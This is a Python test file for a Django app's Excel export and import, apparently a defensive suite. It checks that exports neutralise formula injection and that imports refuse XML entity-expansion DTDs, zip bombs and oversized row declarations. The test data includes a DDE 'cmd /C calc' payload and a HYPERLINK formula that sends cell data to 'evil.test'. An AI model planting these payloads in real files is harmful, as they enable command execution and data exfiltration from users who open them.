"""The shared Excel writer and reader: inert text in every export, and imports that cannot hurt the server."""

import io
import time
import zipfile
from datetime import timedelta
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import OperationalError, connection, transaction
from django.test import RequestFactory
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from simple_history.signals import post_create_historical_record

from yingji.core import excel
from yingji.core.middleware import DatabaseBusyMiddleware
from yingji.core.testing import xlsx_rows
from yingji.enterprises.importing import ENTERPRISE_IMPORTER
from yingji.enterprises.models import Enterprise
from yingji.enterprises.testing import credit_code
from yingji.resources import services
from yingji.resources.tasks import stock_reminders
from yingji.resources.testing import MaterialFactory, WarehouseFactory
from yingji.tipoffs.testing import public_form_data

pytestmark = pytest.mark.django_db
IMPORT_URL = "/enterprises/import/"
HEADINGS = ["名称", "数量"]


def saved(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def cells_as_written(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [(c.value, c.data_type) for row in sheet.iter_rows(min_row=2) for c in row]


# -- export ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", "＋1", "－1", "＠A1",
                                  '=HYPERLINK("http://evil.test","点我")', "\x01=1+1"])
def test_text_that_looks_like_a_formula_is_written_as_quoted_text(text):
    content = saved(excel.export_rows("表", ["内容"], [[text]]))
    [(value, data_type)] = cells_as_written(content)
    assert data_type == "s"
    assert value.startswith("'")
    assert value.lstrip("'").lstrip("\t\r") in text


@pytest.mark.parametrize("value", [-3, -2.5, Decimal("-12.50"), 0])
def test_numbers_stay_numbers(value):
    content = saved(excel.export_rows("表", ["数"], [[value]]))
    [(written, data_type)] = cells_as_written(content)
    assert data_type == "n"
    assert written == value


@pytest.mark.parametrize(("value", "shown"), [(True, "是"), (False, "否")])
def test_booleans_are_written_as_yes_and_no(value, shown):
    content = saved(excel.export_rows("表", ["是否"], [[value]]))
    [(written, data_type)] = cells_as_written(content)
    assert written == shown


def test_control_characters_are_dropped_and_the_rest_of_the_text_kept():
    content = saved(excel.export_rows("表\x07", ["名\x1b称"], [["甲\x00乙\x08丙\x0b丁\x1f戊\n己\t庚"]]))
    rows = xlsx_rows(content)
    assert rows == [["名称"], ["甲乙丙丁戊\n己\t庚"]]


def test_every_sheet_of_a_workbook_goes_through_the_writer():
    workbook = excel.export_rows("一", ["甲"], [["=A1"]])
    excel.add_sheet(workbook, "二", ["乙"], [["=cmd|' /C calc'!A0\x02"]])
    book = load_workbook(io.BytesIO(saved(workbook)))
    assert book.worksheets[1]["A2"].value == "'=cmd|' /C calc'!A0"
    assert book.worksheets[1]["A2"].data_type == "s"


def test_a_cell_is_cut_at_the_excel_limit():
    content = saved(excel.export_rows("表", ["长"], [["字" * 40000]]))
    assert len(xlsx_rows(content)[1][0]) == excel.CELL_MAX_CHARS


def test_a_stock_reminder_with_a_control_character_exports(client, world):
    store = WarehouseFactory(region=world.county1, name="甲区物资库")
    masks = MaterialFactory(name="口罩", unit="只", minimum_stock=100)
    services.stock_receive(warehouse=store, material=masks, quantity=50, document_number="RK-1", actor=None,
                           batch="=M1\x07", expiry_date=timezone.localdate() + timedelta(days=10))
    stock_reminders()
    client.force_login(world.county1_admin)
    response = client.get("/resources/reminders/?export=xlsx")
    assert response.status_code == 200
    cells = [c for row in xlsx_rows(response.content) for c in row if isinstance(c, str)]
    assert "'=M1" in cells


def test_a_formula_sent_through_the_public_tipoff_form_exports_as_text(client, world):
    formula = '=HYPERLINK("http://evil.test/?"&A1,"查看详情")'
    response = client.post("/tipoffs/report/", public_form_data(world.village1, address=formula,
                                                                reporter_name="@王\x1b举报"))
    assert response.status_code == 302, response.content.decode()[:2000]
    client.force_login(world.county1_officer)
    response = client.get("/tipoffs/?export=xlsx")
    assert response.status_code == 200
    cells = [c for row in xlsx_rows(response.content) for c in row if isinstance(c, str)]
    assert "'" + formula in cells
    assert "'@王举报" in cells
    assert not [c for c in cells if c.startswith(("=", "@"))]


# -- import: the file as a whole ---------------------------------------------------------------------------------


def sheet_file(rows: list[list], *, sheet_xml=None, extra_parts: dict[str, bytes] | None = None) -> SimpleUploadedFile:
    """An .xlsx with HEADINGS and `rows`; `sheet_xml` rewrites the first sheet's XML."""
    workbook = Workbook()
    workbook.active.append(HEADINGS)
    for row in rows:
        workbook.active.append(row)
    source = zipfile.ZipFile(io.BytesIO(saved(workbook)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml" and sheet_xml:
                data = sheet_xml(data.decode()).encode()
            target.writestr(item, data)
        for name, data in (extra_parts or {}).items():
            target.writestr(name, data)
    return SimpleUploadedFile("导入.xlsx", buffer.getvalue())


def with_doctype(xml: str) -> str:
    doctype = '<!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    if "?>" in xml:
        declaration, rest = xml.split("?>", 1)
        return declaration + "?>" + doctype + rest
    return doctype + xml


def test_a_plain_file_is_read():
    rows = excel.read_rows(sheet_file([["甲", 1], [None, None], [" 乙 ", 2]]), HEADINGS)
    assert [(r.number, r.values) for r in rows] == [(2, {"名称": "甲", "数量": 1}), (4, {"名称": "乙", "数量": 2})]


def test_control_characters_in_read_values_are_dropped():
    rows = excel.collect_rows([["甲\x07乙\x1b", "1"]], {"名称": 0, "数量": 1}, HEADINGS)
    assert rows[0].values == {"名称": "甲乙", "数量": "1"}


@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "[Content_Types].xml", "xl/sharedStrings.xml"])
def test_a_file_with_a_dtd_is_refused_whichever_part_has_it(part):
    upload = sheet_file([["甲", 1]])
    source = zipfile.ZipFile(io.BytesIO(upload.read()))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target:
        for item in source.infolist():
            data = source.read(item.filename)
            if item.filename == part:
                data = with_doctype(data.decode()).encode()
            target.writestr(item, data)
        if part not in source.namelist():
            target.writestr(part, with_doctype('<?xml version="1.0"?><sst/>'))
    with pytest.raises(excel.ImportFileError, match="DTD"):
        excel.read_rows(SimpleUploadedFile("x.xlsx", buffer.getvalue()), HEADINGS)


def test_a_dtd_in_utf16_is_refused_too():
    xml = with_doctype('<?xml version="1.0" encoding="UTF-16"?><worksheet/>')
    upload = sheet_file([["甲", 1]], extra_parts={"xl/extra.xml": xml.encode("utf-16")})
    with pytest.raises(excel.ImportFileError, match="DTD"):
        excel.read_rows(upload, HEADINGS)


def test_the_enterprise_import_answers_a_dtd_with_a_message_not_a_server_error(client, world):
    client.force_login(world.county1_officer)
    upload = sheet_file([["甲", 1]], sheet_xml=with_doctype)
    response = client.post(IMPORT_URL, {"file": upload})
    assert response.status_code == 400
    assert "DTD" in response.content.decode()
    assert not Enterprise.objects.exists()


def far_row(row_number: int):
    def rewrite(xml: str) -> str:
        xml = xml.replace('<dimension ref="A1:B2"/>', f'<dimension ref="A1:XFD{row_number}"/>')
        far = f'<row r="{row_number}"><c r="A{row_number}" t="inlineStr"><is><t>远处</t></is></c></row>'
        return xml.replace("</sheetData>", far + "</sheetData>")
    return rewrite


def test_a_sheet_declaring_two_million_rows_is_read_at_once_up_to_the_blank_rows_cap(settings):
    upload = sheet_file([["甲", 1]], sheet_xml=far_row(2_000_000))
    assert upload.size < 24 * 1024
    started = time.monotonic()
    rows = excel.read_rows(upload, HEADINGS)
    assert time.monotonic() - started < 2
    assert [r.values["名称"] for r in rows] == ["甲"]


def test_rows_after_a_short_blank_gap_are_still_read(settings):
    settings.IMPORT_MAX_BLANK_ROWS = 50
    rows = excel.read_rows(sheet_file([["甲", 1]], sheet_xml=far_row(40)), HEADINGS)
    assert [(r.number, r.values["名称"]) for r in rows] == [(2, "甲"), (40, "远处")]


def test_a_file_over_the_row_cap_is_refused_whole(settings):
    settings.IMPORT_MAX_ROWS = 10
    with pytest.raises(excel.ImportFileError, match="10 行"):
        excel.read_rows(sheet_file([[f"甲{i}", i] for i in range(11)]), HEADINGS)
    assert len(excel.read_rows(sheet_file([[f"甲{i}", i] for i in range(10)]), HEADINGS)) == 10


def test_a_file_that_unpacks_too_large_is_refused(settings):
    settings.IMPORT_MAX_UNPACKED_BYTES = 100_000
    upload = sheet_file([["甲", 1]], extra_parts={"xl/media/padding.bin": b"\0" * 200_000})
    assert upload.size < 10_000
    with pytest.raises(excel.ImportFileError, match="解压后"):
        excel.read_rows(upload, HEADINGS)


def test_a_damaged_sheet_is_a_message_not_a_server_error():
    upload = sheet_file([["甲", 1]], sheet_xml=lambda xml: xml.replace("</sheetData>", "<row r='3'><c r='A3' t='n'><v>x"))
    with pytest.raises(excel.ImportFileError):
        excel.read_rows(upload, HEADINGS)


def test_the_import_page_states_the_caps(client, world, settings):
    settings.IMPORT_MAX_ROWS = 1234
    client.force_login(world.county1_officer)
    page = client.get(IMPORT_URL).content.decode()
    assert "1234" in page and "10 MB" in page


# -- import: writing ---------------------------------------------------------------------------------------------


def enterprise_rows(world, count: int) -> SimpleUploadedFile:
    template = ENTERPRISE_IMPORTER.template()
    sheet = template.worksheets[0]
    headings = [c.value for c in sheet[1]]
    for number in range(count):
        values = {
            "企业名称": f"批量企业{number}", "统一社会信用代码": credit_code(), "所在村（社区）区划代码": world.village1.code,
            "详细地址": "甲一社区1号", "经度": 118.5, "纬度": 36.4, "行业代码": "C2614", "行业名称": "有机化学原料制造",
            "监管类别": "危险化学品生产", "规模类型": "规模以上", "企业规模": "中型", "监管分级": "乙类",
            "法定代表人": "张三", "法定代表人电话": "13800000000", "主要负责人": "李四", "主要负责人电话": "13900000000",
            "从业人数": 8, "生产状态": "在产",
        }
        sheet.append([values.get(h) for h in headings])
    return SimpleUploadedFile("企业.xlsx", saved(template))


@pytest.mark.django_db(transaction=True)
def test_an_import_commits_every_batch_before_reading_on(world, settings):
    """Each batch is its own transaction: the first batch's rows are committed before the second batch
    starts, so the database's write lock (all of SQLite) is never held for the whole file."""
    settings.IMPORT_BATCH_ROWS = 10
    written, commits = [], []

    def on_row(sender, instance, history_instance, **kwargs):
        if history_instance.history_type == "+" and isinstance(instance, Enterprise):
            written.append(instance.pk)
            transaction.on_commit(lambda: commits.append(len(written)))

    post_create_historical_record.connect(on_row, weak=False)
    try:
        report = ENTERPRISE_IMPORTER.run(enterprise_rows(world, 25), actor=world.county1_officer)
    finally:
        post_create_historical_record.disconnect(on_row)
    assert (report.created, report.errors) == (25, [])
    assert sorted(set(commits)) == [10, 20, 25]


# -- a database that stays busy ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("path", "json"), [("/enterprises/", False), ("/api/enterprises/", True)])
def test_a_locked_database_is_a_503_asking_to_retry(path, json):
    middleware = DatabaseBusyMiddleware(lambda request: None)
    request = RequestFactory().post(path)
    response = middleware.process_exception(request, OperationalError("database is locked"))
    assert response.status_code == 503
    assert response["Retry-After"]
    assert "系统繁忙，请稍后重试" in response.content.decode()
    assert (response["Content-Type"] == "application/json") is json
    assert middleware.process_exception(request, OperationalError("no such table: x")) is None
    assert middleware.process_exception(request, ValueError("database is locked")) is None


def test_sqlite_writers_wait_twenty_seconds_for_the_lock():
    if connection.vendor != "sqlite":
        pytest.skip("SQLite only")
    with connection.cursor() as cursor:
        cursor.execute("PRAGMA busy_timeout")
        assert cursor.fetchone()[0] >= 20000
